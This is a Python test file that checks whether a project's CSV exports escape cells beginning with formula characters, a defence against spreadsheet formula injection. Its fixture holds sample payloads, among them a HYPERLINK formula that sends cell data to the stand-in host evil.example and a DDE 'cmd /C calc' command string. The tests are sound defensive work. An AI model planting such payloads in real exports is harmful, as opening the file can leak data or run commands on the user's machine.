"""CSV exports open safely in a spreadsheet (issue 12, fault 7): a cell that starts with = + - @
(or a tab or carriage return) is prefixed with a quote, as OWASP advises against formula
injection; ``escape_formulas=False`` (``--raw-csv``) writes the values as stored."""

from __future__ import annotations

import csv
import io

from flashpoint.cli.corpus import _write_incidents
from flashpoint.store.export import FLAT_COLUMNS, write_text

HOSTILE = {
    "sentence_text": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "url": "+cmd|' /C calc'!A0",
    "location_name": "-2+3",
    "source_code": "@SUM(A1:A9)",
    "target_code": "\tTAB",
}


def _row(**values) -> dict:
    row = dict.fromkeys(FLAT_COLUMNS, None)
    row.update(goldstein=-2.0, type="ACCUSE", **values)
    return row


def test_flat_csv_cells_that_start_a_formula_get_a_quote() -> None:
    out = io.StringIO()
    write_text(out, "csv", [_row(**HOSTILE)])
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row))
    for name, value in HOSTILE.items():
        assert cells[name] == "'" + value
    assert cells["goldstein"] == "-2.0"  # numbers stay numbers
    assert cells["type"] == "ACCUSE"


def test_raw_csv_keeps_the_values_as_stored() -> None:
    out = io.StringIO()
    write_text(out, "csv", [_row(**HOSTILE)], escape_formulas=False)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert dict(zip(header, row))["sentence_text"] == HOSTILE["sentence_text"]


def test_jsonl_is_never_changed() -> None:
    out = io.StringIO()
    write_text(out, "jsonl", [_row(**HOSTILE)])
    assert '"=HYPERLINK(' in out.getvalue()


def test_incident_csv_cells_that_start_a_formula_get_a_quote() -> None:
    out = io.StringIO()
    row = {"id": "i1", "type": "ACCUSE", "location_name": "=1+1", "sources": ["@evil", "Reuters"],
           "confidence": -0.5}
    _write_incidents([row], "csv", out)
    header, cells = list(csv.reader(io.StringIO(out.getvalue())))
    assert dict(zip(header, cells)) == {"id": "i1", "type": "ACCUSE", "location_name": "'=1+1",
                                        "sources": "'@evil;Reuters", "confidence": "-0.5"}
    out = io.StringIO()
    _write_incidents([row], "csv", out, escape_formulas=False)
    assert "=1+1" in out.getvalue() and "'=" not in out.getvalue()
